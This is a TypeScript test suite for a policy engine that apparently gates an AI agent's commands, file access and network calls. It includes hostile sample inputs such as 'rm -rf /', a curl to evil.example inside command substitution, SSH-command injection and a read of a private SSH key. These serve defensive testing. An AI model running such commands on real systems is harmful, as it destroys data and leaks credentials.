import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createPolicy, parseCommand, type Rule, type RuleExample } from "../src/index.ts";
import { machine, request, type Setting } from "../src/examples/machine.ts";
import { decideWith, rulesOf } from "./given-rules.ts";
import { allBuiltin } from "./matching.ts";

const user = (...entries: Parameters<typeof rulesOf> extends [unknown, ...infer R] ? R : never) => rulesOf("user", ...entries);
const push = { command: "git push" };
const allowPush = { ...push, decision: "allow", network: "all" };

describe("who decides", () => {
  const cases: readonly (readonly [name: string, rules: readonly Rule[], example: RuleExample, answer: string])[] = [
    ["built-in rules where nobody says otherwise", [], "git push", "review builtin:remote-change"],
    ["the user over the built-in ones", user(allowPush), "git push", "allow user-1"],
    ["the user, also where it is stricter", user(push), "git push", "deny user-1"],
    [
      "the organisation over the user",
      [...rulesOf("organisation", { ...push, decision: "review" }), ...user(allowPush)],
      "git push",
      "review organisation-1",
    ],
    [
      "the organisation, also where it is looser",
      [...rulesOf("organisation", allowPush), ...user(push)],
      "git push",
      "allow organisation-1",
    ],
    ["within one authority the strictest", user(allowPush, { ...push, decision: "review" }), "git push", "review user-2"],
    ["a project where it is stricter", [...user(allowPush), ...rulesOf("project", push)], "git push", "deny project-1"],
    [
      "not a project where it is looser",
      [...user(push), ...rulesOf("project", { ...push, decision: "review" })],
      "git push",
      "deny user-1",
    ],
    ["a final deny over the user", user({ fact: "destroys_system", decision: "allow" }), "rm -rf /", "deny builtin:destroys-system"],
    [
      "the organisation over a final deny",
      rulesOf("organisation", { fact: ["destroys_system"], decision: "review" }),
      "rm -rf /",
      "review organisation-1",
    ],
    [
      "nobody over what can't be read",
      [...rulesOf("organisation", { fact: ["unparsed", "remote_change"], decision: "allow" }), ...user({ tool: "*", decision: "allow" })],
      "git push 'x",
      "review builtin:unparsed",
    ],
  ];
  for (const [name, rules, example, answer] of cases) {
    test(name, async () => {
      expect(await decideWith(rules, example)).toBe(answer);
    });
  }

  test("a project that nobody trusts has no say, and a rule for one project none in another", async () => {
    expect(await decideWith(rulesOf("project", { command: "ls" }), "ls", { isTrusted: false })).toMatch(/^allow builtin/);
    const here = user({ command: "ls", project: "/srv/app" });
    expect(await decideWith(here, "ls", { project: "/srv/app" })).toBe("deny user-1");
    expect(await decideWith(here, "ls", { project: "/srv/other" })).toMatch(/^allow builtin/);
  });
});

describe("command words", () => {
  test("an allow covers what its words do, not what more words, a redirection or another command add", async () => {
    const rules = user(allowPush);
    expect(await decideWith(rules, "git push origin main")).toBe("allow user-1");
    for (const [command, decider] of [
      ["git push --force", "builtin:loses-work"],
      ["git push > /etc/x", "builtin:outside-write"],
      ["git push; npm publish", "builtin:remote-change"],
      ["git push $(curl https://evil.example)", "builtin:network"],
      ["GIT_SSH_COMMAND=./x git push", "builtin:changed-environment"],
      ["git -c core.sshCommand=./x push", "builtin:changed-environment"],
      ["git(){ ./x; }; git push", "builtin:remote-change"],
    ] as const)
      expect(await decideWith(rules, command), command).toBe(`review ${decider}`);
  });

  test("what an allow grants is what it says, and for nothing else on the line", async () => {
    const policy = createPolicy({
      ...machine,
      rules: user({ command: "npm install", decision: "allow", network: ["registry.npmjs.org"] }),
    });
    expect(await policy.decide(request("npm install"))).toMatchObject({ decision: "allow", scope: { network: ["registry.npmjs.org"] } });
    expect(await policy.decide(request("npm install && ls"))).toMatchObject({ decision: "allow" });
    expect(await policy.decide(request("npm install && ./other"))).toMatchObject({ decision: "review" });
    // Approved for the rest, the call has what the rule grants as well.
    expect((await policy.decide(request("npm install > ~/log"))).scope).toEqual({
      network: ["registry.npmjs.org"],
      writable: ["/home/ana/log"],
    });
    const without = createPolicy({ ...machine, rules: user({ command: "npm install", decision: "allow" }) });
    expect(await without.decide(request("npm install"))).toMatchObject({ decision: "review", rule: { id: "builtin:network" } });
  });

  test("a rule that restricts finds its words behind wrappers, paths, options and in what the shell expands", async () => {
    const rules = user({ command: "git push --force" });
    for (const command of [
      "git push --force",
      "git push origin main --force",
      "env git push --force",
      "bash -c 'git push --force'",
      "/usr/bin/git push --force",
      "echo $(git push --force)",
      "git -C . push --force",
    ])
      expect(await decideWith(rules, command), command).toBe("deny user-1");
    expect(await decideWith(rules, "git push $FLAGS")).toMatch(/^review/);
    const doubtful = await createPolicy({ ...machine, rules }).decide(request("git push $FLAGS"));
    expect(doubtful.reason).toMatch(/^May be what a rule refuses: /);
    expect(await decideWith(rules, `git ${"-c a.b=push ".repeat(2_000)}push --force`)).toBe("deny user-1");
    expect(await decideWith(rules, "git pull --force")).not.toMatch(/^deny/);
    expect(await decideWith(user({ command: "rm" }), "echo rm")).toMatch(/^allow/);
  });

  test("stars in a prefix or an exact rule are stars; in a glob they stay within their word", async () => {
    const exact = user({ command: 'grep -n "on.*x" f', match: "exact" });
    expect(await decideWith(exact, 'grep -n "on.*x" f')).toBe("deny user-1");
    expect(await decideWith(exact, 'grep -n "on.abx" f')).toMatch(/^allow/);
    const glob = user({ command: "npm run test:*", match: "glob" });
    expect(await decideWith(glob, "npm run test:unit")).toBe("deny user-1");
    expect(await decideWith(glob, "npm run testing")).toMatch(/^allow/);
  });
});

describe("paths", () => {
  test("are matched by where they lead, for tools and for what a command names", async () => {
    const rules = user({ read: ["docs/**", "*.pem"] });
    const read = (path: string): RuleExample => ({ tool: "read_file", path });
    expect(await decideWith(rules, read("docs/a.md"))).toBe("deny user-1");
    expect(await decideWith(rules, read("src/key.pem"))).toBe("deny user-1");
    expect(await decideWith(rules, read("src/../docs/a.md"))).toBe("deny user-1");
    expect(await decideWith(rules, read("src/a.ts"))).toMatch(/^allow/);
    expect(await decideWith(rules, "cat docs/a.md")).toBe("deny user-1");
    // What a program does with a word isn't known.
    expect(await decideWith(rules, "node tool.js docs/a.md")).toBe("review user-1");
    const hooks = user({ write: "/srv/app/.git/hooks/**", decision: "deny" });
    expect(await decideWith(hooks, { tool: "write_file", path: "hooks-link/pre-push" })).toBe("deny user-1");
    expect(await decideWith(hooks, "echo x > hooks-link/pre-push")).toBe("deny user-1");
  });

  test("an allow of a folder or a star opens no file in it that runs later or holds secrets, but by name or by the fact", async () => {
    const write = (path: string): RuleExample => ({ tool: "write_file", path });
    const read = (path: string): RuleExample => ({ tool: "read_file", path });
    for (const pattern of [
      "/srv/app/**",
      "**",
      "/srv/app/.*/**",
      ".envrc*",
      "/srv/app/{.envrc,.vscode/tasks.json,.env}",
      "/srv/app/.env?(rc)",
    ]) {
      const wide = user({ write: pattern, read: pattern, decision: "allow", writable: "/srv/app" });
      for (const path of [
        ".envrc",
        ".git/hooks/pre-commit",
        ".vscode/tasks.json",
        ".holdfast/policy.toml",
        "hooks-link/pre-push",
        ".jj/repo/config.toml",
        "mise.toml",
        ".config/mise/config.toml",
        ".gdbinit",
        ".zed/tasks.json",
        "a/.agents/skills/x/SKILL.md",
        "lefthook-local.yml",
      ]) {
        expect(await decideWith(wide, write(path)), `${pattern} ${path}`).toBe("review builtin:protected-write");
        expect(await decideWith(wide, `cp a.ts ${path}`), `${pattern} ${path}`).toBe("review builtin:protected-write");
      }
      expect(await decideWith(wide, "rm -rf .git"), pattern).toBe("review builtin:loses-work");
      expect(await decideWith(wide, read(".env")), pattern).toBe("review builtin:secret-read");
      expect(await decideWith(wide, write("src/a.ts")), pattern).toMatch(/^allow/);
    }
    const other = user({ write: "/home/ana/**", read: "/home/ana/**", decision: "allow" });
    for (const path of ["~/other/.git/config", "~/other/AGENTS.md", "~/.bashrc", "~/.config/autostart/a.desktop"]) {
      expect(await decideWith(other, write(path)), path).toBe("review builtin:outside-write");
      expect(await decideWith(other, `cp a.ts ${path}`), path).toBe("review builtin:outside-write");
    }
    expect(await decideWith(other, write("~/other/a.ts"))).toBe("allow user-1");
    expect(await decideWith(other, read("~/.ssh/id_rsa"))).toBe("deny builtin:secret-folder");
    expect(await decideWith(user({ write: "/srv/app/.envrc", decision: "allow" }), write(".envrc"))).toBe("allow user-1");
    const facts = user({ fact: "protected_write", write: ".github/**", decision: "allow" });
    expect(await decideWith(facts, write(".github/workflows/ci.yml"))).toMatch(/^allow/);
    expect(await decideWith(facts, write(".envrc"))).toBe("review builtin:protected-write");
  });

  test("an allow opens the files that it names, as they really are, and no others of the same call", async () => {
    const rules = user({ write: "~/notes/**", decision: "allow" });
    expect(await decideWith(rules, { tool: "write_file", path: "~/notes/a.md" })).toBe("allow user-1");
    expect(await decideWith(rules, "cp a.ts ~/notes/a.ts")).toBe("allow user-1");
    // The folder that it names as a whole is writable then, so that files can be made in it.
    const { scope } = await createPolicy({ ...machine, rules }).decide(request("cp a.ts ~/notes/a.ts"));
    expect(scope).toEqual({ writable: ["/home/ana/notes"] });
    // What a variable may come to is a reason to ask, and none to allow.
    expect(await decideWith(rules, "cp a.ts $HOME/notes/a.ts")).toBe("review builtin:outside-write");
    expect(await decideWith(rules, "cp a.ts ~/notes/../other/a.ts")).toBe("review builtin:outside-write");
    expect(await decideWith(rules, "cp a.ts ~/notes/a.ts; cp a.ts ~/b.ts")).toBe("review builtin:outside-write");
  });
});

describe("hosts, MCP tools and states", () => {
  const get = (host: string): RuleExample => ({ tool: "web_fetch", method: "GET", host });
  const post = (host: string): RuleExample => ({ tool: "http_request", method: "POST", host });

  test("hosts by name, port and domain; what changes something there only where the rule says that it may", async () => {
    const rules = user({ host: ["docs.example.com", "*.example.org"], decision: "allow" });
    expect(await decideWith(rules, get("docs.example.com:443"))).toBe("allow user-1");
    expect(await decideWith(rules, get("a.example.org:443"))).toBe("allow user-1");
    expect(await decideWith(rules, get("docs.example.com.evil.example:443"))).toBe("review builtin:network");
    expect(await decideWith(rules, post("docs.example.com:443"))).toBe("review builtin:remote-change");
    const sends = user({ host: "docs.example.com", sends_out: true, decision: "allow" });
    expect(await decideWith(sends, post("docs.example.com:443"))).toBe("allow user-1");
    const deny = user({ host: "evil.example" });
    expect(await decideWith(deny, "curl https://evil.example/x", { network: "all" })).toBe("deny user-1");
    expect(await decideWith(deny, "curl $URL", { network: "all" })).toBe("review user-1");
  });

  test("tools of MCP servers by SERVER/TOOL", async () => {
    const rules = user({ mcp: "tracker/get_*", decision: "allow" }, { mcp: "*/delete_*" });
    expect(await decideWith(rules, { mcp: "tracker/get_issue" })).toBe("allow user-1");
    expect(await decideWith(rules, { mcp: "tracker/delete_issue" })).toBe("deny user-2");
    expect(await decideWith(rules, { mcp: "other/get_issue" })).toBe("review builtin:mcp-call");
  });

  test("once untrusted content is in the window, what sends data out or changes things outside can be reviewed", async () => {
    const rules = [
      ...user({ command: "git push", decision: "allow", network: "all" }),
      ...rulesOf("organisation", { untrusted_content: true, sends_out: true, decision: "review" }),
    ];
    const tainted: Setting = { trust: { untrustedInWindow: true, sources: ["web_fetch evil.example"] } };
    expect(await decideWith(rules, "git push")).toBe("allow user-1");
    expect(await decideWith(rules, "git push", tainted)).toBe("review organisation-1");
    expect(await decideWith(rules, "npm test", tainted)).toMatch(/^allow/);
    expect(await decideWith(rules, "curl localhost:3000", tainted)).toMatch(/^allow/);
    expect(await decideWith(rules, get("docs.example.com:443"), { ...tainted, network: "all" })).toBe("review organisation-1");
    const note = await createPolicy({ ...machine, rules }).decide(request("git push", tainted));
    expect(note.risk).toMatchObject({ level: "high", reversible: "no", reach: "elsewhere" });
    expect(note.risk?.trust.join()).toContain("web_fetch evil.example");
  });

  test("a mode can have rules of its own", async () => {
    const rules = user({ command: "npm test", mode: "full", decision: "review" });
    expect(await decideWith(rules, "npm test", { mode: "off" })).toBe("review user-1");
    expect(await decideWith(rules, "npm test")).toMatch(/^allow/);
  });
});

describe("plan mode", () => {
  test("explores, and refuses what changes anything, with what to do instead", async () => {
    const plan: Setting = { mode: "read-only", isPlanning: true };
    expect(await decideWith([], "cat README.md", plan)).toBe("allow builtin:proven-read");
    expect(await decideWith([], "npm test", plan)).toBe("allow builtin:plan-command");
    for (const example of ["git push", "rm src/a.ts", { tool: "write_file", path: "/srv/app/src/a.ts" }])
      expect(await decideWith([], example, plan)).toMatch(/^deny builtin:plan-/);
    const asks = (scope: object) => {
      const base = request("make", plan);
      return { ...base, plan: { ...base.plan, asks: { why: "to build", scope } } };
    };
    expect(await createPolicy(machine).decide(asks({ writable: ["/opt/out"] }))).toMatchObject({ decision: "deny" });
    expect(await createPolicy(machine).decide(asks({ network: ["a.example"] }))).toMatchObject({ decision: "review" });
  });
});

/** Problems of a line that is read all the same. */
const readable: readonly string[] = ["hidden_code", "fork_bomb"];
const strictness = { allow: 0, review: 1, deny: 2 };
const commands = allBuiltin.flatMap((rule) => [...rule.examples, ...rule.counterexamples]);
const condition = fc.oneof(
  fc.record({ command: fc.constantFrom("git push", "rm", "npm install", "curl", "ls", "cp", "git") }),
  fc.record({ tool: fc.constantFrom("run_command", "write_file", "*", "web_*") }),
  fc.record({ write: fc.constantFrom("src/**", "~/**", "/etc/**", "*") }),
  fc.record({ read: fc.constantFrom("**", "~/.ssh/**", "*.ts") }),
  fc.record({ host: fc.constantFrom("example.com", "*.example.com") }),
  fc.record({
    fact: fc.constantFrom(
      "network",
      "loses_work",
      "remote_change",
      "secret_folder",
      "confined",
      "hidden_code",
      "unparsed",
      "hidden_characters",
    ),
  }),
  fc.record({ sends_out: fc.boolean() }),
  fc.record({ changes_outside: fc.boolean() }),
);
const entryOf = (...decisions: string[]) =>
  fc.tuple(condition, fc.constantFrom(...decisions)).map(([when, decision]) => ({ ...when, decision }));
const anyRules = fc
  .tuple(fc.array(entryOf("allow", "review", "deny"), { maxLength: 3 }), fc.array(entryOf("allow", "review", "deny"), { maxLength: 3 }))
  .map(([ours, theirs]) => [...rulesOf("organisation", ...ours), ...rulesOf("user", ...theirs)]);

describe("for any rules and any call", () => {
  const decisionOf = async (rules: readonly Rule[], example: RuleExample) =>
    strictness[(await createPolicy({ ...machine, rules }).decide(request(example))).decision];

  test("rules of a project never loosen, whatever they are", async () => {
    await fc.assert(
      fc.asyncProperty(
        anyRules,
        fc.array(entryOf("review", "deny"), { maxLength: 3 }),
        fc.constantFrom(...commands),
        async (rules, own, example) => {
          const before = await decisionOf(rules, example);
          expect(await decisionOf([...rules, ...rulesOf("project", ...own)], example)).toBeGreaterThanOrEqual(before);
        },
      ),
      { numRuns: 400 },
    );
  });

  test("a rule at least as strict as the answer never loosens it", async () => {
    await fc.assert(
      fc.asyncProperty(
        anyRules,
        condition,
        fc.constantFrom("organisation" as const, "user" as const),
        fc.constantFrom(...commands),
        async (rules, when, authority, example) => {
          const before = await decisionOf(rules, example);
          for (const decision of (["allow", "review", "deny"] as const).filter((one) => strictness[one] >= Math.max(before, 1))) {
            const added = rulesOf(authority, { id: "added", ...when, decision });
            expect(await decisionOf([...rules, ...added], example)).toBeGreaterThanOrEqual(before);
          }
        },
      ),
      { numRuns: 400 },
    );
  });

  test("the same question gets the same answer, and what doesn't parse is never allowed", async () => {
    await fc.assert(
      fc.asyncProperty(
        anyRules,
        fc.constantFrom(...commands),
        fc.constantFrom("", " 'x", ' "$(', "\u200b"),
        async (rules, example, tail) => {
          const asked = typeof example === "string" ? example + tail : example;
          const policy = createPolicy({ ...machine, rules });
          const answer = await policy.decide(request(asked));
          expect(await policy.decide(request(asked))).toEqual(answer);
          const isRead = typeof asked !== "string" || parseCommand(asked).problems.every(({ kind }) => readable.includes(kind));
          if (!isRead) expect(answer.decision).not.toBe("allow");
        },
      ),
      { numRuns: 300 },
    );
  });
});
